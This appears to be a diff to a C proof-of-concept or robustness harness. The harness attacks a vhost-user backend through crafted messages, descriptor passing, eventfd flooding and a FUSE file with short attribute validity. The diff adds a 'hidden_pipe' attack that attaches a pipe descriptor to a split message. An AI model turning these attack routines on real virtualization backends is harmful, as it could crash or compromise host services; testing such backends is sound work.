@@ -68,7 +68,7 @@ static void serve(int fuse)
 			struct fuse_init_out init = { .major = 7, .minor = 31, .max_write = 4096 };
 			answer(fuse, head->unique, &init, sizeof init);
 		} else if (head->opcode == FUSE_LOOKUP) {
-			/* Not valid for a moment: every look at it asks again. */
+			/* Its attributes are not valid for a moment: every look at it asks again. */
 			struct fuse_entry_out entry = { .nodeid = FILE_NODE, .entry_valid = 1000, .attr = file };
 			answer(fuse, head->unique, &entry, sizeof entry);
 		} else if (head->opcode == FUSE_OPEN || head->opcode == FUSE_OPENDIR) {
@@ -135,15 +135,13 @@ static int silent_file(void)
 
 /* ---- vhost-user ---- */
 
-static void say(uint32_t request, const void *payload, uint32_t len, int fd)
+static void say_parts(struct iovec *parts, int count, int fd)
 {
-	uint32_t head[3] = { request, 1, len };
-	struct iovec parts[2] = { { head, sizeof head }, { (void *)payload, len } };
 	union {
 		char space[CMSG_SPACE(sizeof(int))];
 		struct cmsghdr align;
 	} control = { 0 };
-	struct msghdr message = { .msg_iov = parts, .msg_iovlen = 2 };
+	struct msghdr message = { .msg_iov = parts, .msg_iovlen = count };
 
 	if (fd >= 0) {
 		message.msg_control = &control;
@@ -155,7 +153,15 @@ static void say(uint32_t request, const void *payload, uint32_t len, int fd)
 		memcpy(CMSG_DATA(rights), &fd, sizeof fd);
 	}
 	if (sendmsg(vhost, &message, MSG_NOSIGNAL) < 0)
-		warn("request %u", request);
+		warn("sendmsg");
+}
+
+static void say(uint32_t request, const void *payload, uint32_t len, int fd)
+{
+	uint32_t head[3] = { request, 1, len };
+	struct iovec parts[2] = { { head, sizeof head }, { (void *)payload, len } };
+
+	say_parts(parts, 2, fd);
 }
 
 static void say_word(uint32_t request, uint64_t word, int fd)
@@ -164,7 +170,7 @@ static void say_word(uint32_t request, uint64_t word, int fd)
 }
 
 enum { SET_FEATURES = 2, SET_OWNER = 3, SET_MEM_TABLE = 5, SET_LOG_BASE = 6, NUM = 8, ADDR = 9, BASE = 10, KICK = 12,
-       CALL = 13, ERR = 14, SET_PROTOCOL_FEATURES = 16, ENABLE = 18, SET_INFLIGHT_FD = 32 };
+       CALL = 13, ERR = 14, SET_PROTOCOL_FEATURES = 16, ENABLE = 18, SET_MTU = 20, SET_INFLIGHT_FD = 32 };
 
 static void say_memory(int file)
 {
@@ -323,11 +329,12 @@ static void *fill(void *fd)
 		uint64_t most = UINT64_MAX - 1;
 
 		fcntl(call, F_SETFL, O_NONBLOCK);
-		if (write(call, &most, sizeof most) < 0 && 0)
-			return NULL;
+		if (write(call, &most, sizeof most) < 0)
+			usleep(1);
 		fcntl(call, F_SETFL, 0);
 		usleep(1000);
 	}
+	return fd;
 }
 
 static void attack(const char *what)
@@ -378,6 +385,16 @@ static void attack(const char *what)
 		say_word(ERR, 0, ends[1]);
 		say_word(KICK, 0, ends[1]);
 		close(ends[1]);
+	} else if (!strcmp(what, "hidden_pipe")) {
+		/* Where no descriptor is looked for the kernel closes it, on the thread that reads. */
+		uint32_t head[3] = { SET_MTU, 1, 8 };
+		uint64_t mtu = 1500;
+		held_pipe(ends);
+		introduce();
+		say_parts(&(struct iovec){ head, sizeof head }, 1, -1);
+		say_parts(&(struct iovec){ &mtu, sizeof mtu }, 1, ends[1]);
+		close(ends[1]);
+		usleep(200000);
 	} else {
 		errx(1, "no attack is called %s", what);
 	}
